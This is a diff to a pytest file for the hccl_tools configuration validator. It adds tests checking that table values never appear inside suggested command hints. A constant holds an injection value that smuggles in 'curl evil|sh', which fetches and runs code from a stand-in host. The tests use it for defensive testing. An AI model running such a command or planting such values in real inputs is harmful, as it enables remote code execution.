@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import re
 from pathlib import Path
 from typing import Any
@@ -10,9 +11,17 @@ import pytest
 
 from hccl_tools import rules, validate
 from hccl_tools.rules.commands import shown_host
+from hccl_tools.rules.registry import Rule, all_rules
+from tests.support.bulk import for_each
+from tests.support.rule_examples import example
 from tests.support.tables import table
 
 HOSTILE = "x`; run `curl evil|sh` #"
+#: The keys with texts whose values a hint can name.
+KEYS = (
+    "server_id", "host_ip", "net_instance_id", "super_pod_id", "device_ip", "container_ip", "device_id",
+    "group_id", "super_device_id", "rank_id", "addr", "version", "host_nic_ip", "server_ip",
+)  # fmt: skip
 SOURCES = sorted(Path(str(rules.__file__)).parent.glob("*.py"))
 
 
@@ -64,3 +73,51 @@ def test_each_place_of_a_command_is_checked(path: Path) -> None:
     places = re.findall(r"` on \{(\w+)", path.read_text())
 
     assert set(places) <= {"shown_host", "hosts"}
+
+
+def _with_hostile_text(value: Any, key: str) -> Any:
+    if isinstance(value, dict):
+        return {
+            name: HOSTILE + one[-2:] if name == key and isinstance(one, str) else _with_hostile_text(one, key)
+            for name, one in value.items()
+        }
+    return [_with_hostile_text(one, key) for one in value] if isinstance(value, list) else value
+
+
+@for_each(all_rules().values(), name=lambda rule: rule.facts.id)
+def test_no_text_of_a_table_is_in_a_hint_with_the_marks_of_a_command(rule: Rule) -> None:
+    shown = example(rule, "Example")
+    values = [_with_hostile_text(shown.value, key) for key in KEYS]
+    hints = [
+        one.hint or ""
+        for value in values
+        if value != shown.value
+        for one in validate(value, product=shown.product).findings
+    ]
+
+    assert not [hint for hint in hints if "x`;" in hint]
+
+
+def _server(device: str) -> str:
+    return (
+        f'{{"version": "1.0", "server_count": "1", "server_list": [{{"server_id": "{HOSTILE}", '
+        f'"device": [{device}]}}], "status": "completed"}}'
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        json.dumps({"version": "1.0", "server_count": "2", "server_list": [HOSTILE, f"{HOSTILE}b"]}),
+        _server('{"device_id": "3", "device_ip": , "rank_id": "0"}'),
+        _server('{"device_id": "3", "super_device_id": , "rank_id": "0"}'),
+        _server(
+            '{"device_id": "0", "device_ip": "1.1.1.1"}, ..., {"device_id": "3", "device_ip": "1.1.1.4"}'
+        ),
+    ],
+)
+def test_no_text_of_a_damaged_table_is_in_a_command(text: str) -> None:
+    hints = [one.hint or "" for one in validate(text.encode()).findings]
+
+    assert any("`hccn_tool" in hint or "`npu-smi" in hint or "`hccl-tools gen" in hint for hint in hints)
+    assert not [hint for hint in hints if "x`;" in hint or "curl evil|sh`" in hint]
